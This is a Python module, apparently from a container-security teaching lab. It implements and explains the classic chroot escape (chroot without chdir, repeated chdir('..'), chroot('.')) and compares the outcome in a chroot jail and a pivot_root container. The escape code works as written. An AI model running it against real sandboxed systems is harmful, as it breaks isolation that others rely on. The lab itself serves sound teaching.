"""The classic chroot escape, as a lab can run it safely.

``chroot(dir)`` changes only where "/" points for path lookups. It does not move the current
directory, and it leaves the rest of the host's file tree mounted. So a root process inside a
chroot that still has ``CAP_SYS_CHROOT`` can get out:

1. ``mkdir x; chroot x`` without ``chdir``: the current directory is now *outside* the root;
2. ``chdir("..")`` many times: nothing stops the walk, since the current directory is already
   outside the root, and it ends at the host's real "/";
3. ``chroot(".")``: the host's "/" is now this process's root.

A container made with ``pivot_root`` is different. The mount namespace's root *is* the image, and
the old root was unmounted (detached). Above the image's "/" there is nothing to walk to.

:func:`attempt` runs the three steps in a forked child after ``enter()`` has put it in the jail,
and reports what the child could read afterwards. Nothing here touches the host: the child
only reads one file.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass


@dataclass
class EscapeResult:
    escaped: bool  # could the child read the host-side file after the escape steps?
    detail: str  # what the child saw, in words
    root_listing: list[str]  # what "/" looked like to the child after the escape steps
    capabilities: list[str]  # the child's effective capabilities when it tried


def attempt(enter: Callable[[], None], host_file: str, scratch: str = "lk-escape") -> EscapeResult:
    """Fork; in the child run ``enter()``, then the chroot escape; try to read ``host_file``."""
    from labkit.oci import capabilities as caps
    from labkit.oci import syscalls as sc

    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        report: dict[str, object] = {}
        try:
            os.close(r)
            enter()
            eff = sc.capget()[0]
            report["caps"] = caps.names(eff)
            os.makedirs(scratch, exist_ok=True)
            os.chroot(scratch)  # step 1: root moves below us; the current directory stays put
            for _ in range(64):  # step 2: walk up past where the jail's "/" was
                os.chdir("..")
            os.chroot(".")  # step 3: make wherever we ended up the root
            report["listing"] = sorted(os.listdir("/"))[:40]
            try:
                with open(host_file) as f:
                    report["read"] = f.read()
            except OSError as exc:
                report["error"] = f"{exc.strerror}: {host_file}"
        except BaseException as exc:  # noqa: BLE001 - report, never unwind into the notebook
            report["error"] = f"{exc.__class__.__name__}: {exc}"
        finally:
            os.write(w, json.dumps(report).encode())
            os._exit(0)
    os.close(w)
    chunks = []
    while chunk := os.read(r, 65536):
        chunks.append(chunk)
    os.close(r)
    os.waitpid(pid, 0)
    rep = json.loads(b"".join(chunks) or b"{}")
    if "read" in rep:
        return EscapeResult(True, f"read {host_file}: {str(rep['read']).strip()!r}", rep.get("listing", []),
                            rep.get("caps", []))
    return EscapeResult(False, rep.get("error", "no output"), rep.get("listing", []), rep.get("caps", []))


def enter_chroot(jail: str, process: dict | None = None) -> Callable[[], None]:
    """What ``chroot jail`` does: change the root, then the current directory; with ``process``
    (a bundle's ``process`` block) also drop to that capability set, as a container would."""
    def enter() -> None:
        os.chroot(jail)
        os.chdir("/")
        if process is not None:
            from labkit.oci.native import init as cinit

            cinit._drop_capabilities(process)
    return enter


def enter_container(pid: int, process: dict | None = None) -> Callable[[], None]:
    """Step into a running container the way its own processes live: its mount namespace (whose
    root is the pivoted image) and, given the bundle's ``process``, its capability set."""
    def enter() -> None:
        from labkit.oci import syscalls as sc
        from labkit.oci.native import init as cinit

        fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
        sc.setns(fd, sc.CLONE_NEWNS)  # also sets root and cwd to the namespace's root
        os.close(fd)
        os.chdir("/")
        if process is not None:
            cinit._drop_capabilities(process)
    return enter
